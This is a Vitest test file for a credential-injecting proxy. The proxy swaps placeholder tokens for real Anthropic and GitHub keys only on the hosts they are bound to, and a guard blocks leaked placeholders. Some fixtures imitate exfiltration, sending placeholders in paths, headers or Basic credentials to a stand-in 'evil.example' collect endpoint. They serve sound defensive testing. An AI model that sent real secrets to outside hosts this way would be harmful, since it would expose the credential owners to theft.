import { describe, expect, it } from 'vitest';
import { destinationOf, type Destination } from '../../../../src/network/destination.js';
import type { ProxiedCredential } from '../../../../src/network/egress-secrets.js';
import { RewriterRegistry, type RewritableRequest } from '../../../../src/network/proxy/pipeline.js';
import {
  boundToCredential,
  credentialHostRule,
  placeholderGuard,
  registerCredentials,
} from '../../../../src/network/proxy/tls-credentials.js';
import { formatRule } from '../../../../src/network/rule.js';

const P_ANTHROPIC = 'mino-proxy-managed-anthropic_api_key-0011223344556677';
const P_GH = 'mino-proxy-managed-gh_token-8899aabbccddeeff';

const CREDENTIALS: ProxiedCredential[] = [
  {
    variable: 'ANTHROPIC_API_KEY',
    placeholder: P_ANTHROPIC,
    value: 'sk-ant-REAL',
    hosts: ['api.anthropic.com'],
    header: 'x-api-key',
    prefix: '',
    add: false,
  },
  {
    variable: 'GH_TOKEN',
    placeholder: P_GH,
    value: 'ghp_REAL',
    hosts: ['api.github.com'],
    header: 'authorization',
    prefix: 'token ',
    add: false,
  },
  {
    variable: 'GH_TOKEN',
    placeholder: P_GH,
    value: 'ghp_REAL',
    hosts: ['github.com'],
    header: 'authorization',
    prefix: '',
    add: true,
    basicUser: 'x-access-token',
  },
];

function dest(host: string, port = 443): Destination {
  return destinationOf(host, port)!;
}

function req(host: string, headers: Record<string, string>, path = '/'): RewritableRequest {
  return { dest: dest(host), method: 'GET', path, headers };
}

async function rewrite(r: RewritableRequest): Promise<RewritableRequest> {
  const registry = new RewriterRegistry();
  registerCredentials(registry, CREDENTIALS);
  const fn = registry.for(r.dest);
  return fn ? fn(r) : r;
}

describe('credential rewriting', () => {
  it('host patterns default to port 443 and keep an explicit port', () => {
    expect(formatRule(credentialHostRule('api.github.com'))).toBe('api.github.com:443');
    expect(formatRule(credentialHostRule('*.example.com:8443'))).toBe('*.example.com:8443');
  });

  it('puts the real value in place of the placeholder, x-api-key and Authorization Bearer alike', async () => {
    const a = await rewrite(req('api.anthropic.com', { 'x-api-key': P_ANTHROPIC }));
    expect(a.headers['x-api-key']).toBe('sk-ant-REAL');
    const b = await rewrite(req('api.anthropic.com', { authorization: `Bearer ${P_ANTHROPIC}` }));
    expect(b.headers.authorization).toBe('Bearer sk-ant-REAL');
  });

  it('swaps inside Basic credentials (git) and adds them when git sent none', async () => {
    const basic = `Basic ${Buffer.from(`x-access-token:${P_GH}`).toString('base64')}`;
    const a = await rewrite(req('github.com', { authorization: basic }));
    expect(Buffer.from(String(a.headers.authorization).slice(6), 'base64').toString()).toBe('x-access-token:ghp_REAL');
    const b = await rewrite(req('github.com', {}));
    expect(Buffer.from(String(b.headers.authorization).slice(6), 'base64').toString()).toBe('x-access-token:ghp_REAL');
    // the API host only replaces, never adds
    const c = await rewrite(req('api.github.com', {}));
    expect(c.headers.authorization).toBeUndefined();
  });

  it('never gives a credential to a host it is not bound to', async () => {
    const registry = new RewriterRegistry();
    registerCredentials(registry, CREDENTIALS);
    expect(registry.for(dest('gist.github.com'))).toBeUndefined();
    expect(registry.for(dest('api.anthropic.com', 8443))).toBeUndefined();
    const bound = boundToCredential(registerCredentials(new RewriterRegistry(), CREDENTIALS));
    expect(bound(dest('api.github.com'))).toBe(true);
    expect(bound(dest('example.com'))).toBe(false);
  });
});

describe('placeholderGuard', () => {
  const guard = placeholderGuard(CREDENTIALS);

  it('passes requests without placeholders', () => {
    expect(guard(req('example.com', { authorization: 'Bearer abc' }))).toEqual({ allow: true });
  });

  it('refuses a placeholder in a header, the path (percent-encoded too) or Basic credentials, naming the variable', () => {
    const cases = [
      req('gist.github.com', { authorization: `token ${P_GH}` }),
      req('evil.example', {}, `/collect?k=${encodeURIComponent(P_ANTHROPIC)}`),
      req('evil.example', { authorization: `Basic ${Buffer.from(`u:${P_GH}`).toString('base64')}` }),
      req('evil.example', { 'x-anything': 'mino-proxy-managed-other-session-00' }),
    ];
    const verdicts = cases.map(guard);
    for (const v of verdicts) expect(v.allow).toBe(false);
    expect(verdicts[0]).toMatchObject({ reason: expect.stringContaining('GH_TOKEN') });
    expect(verdicts[1]).toMatchObject({ reason: expect.stringContaining('ANTHROPIC_API_KEY') });
    for (const v of verdicts) expect(JSON.stringify(v)).not.toMatch(/REAL/);
  });
});
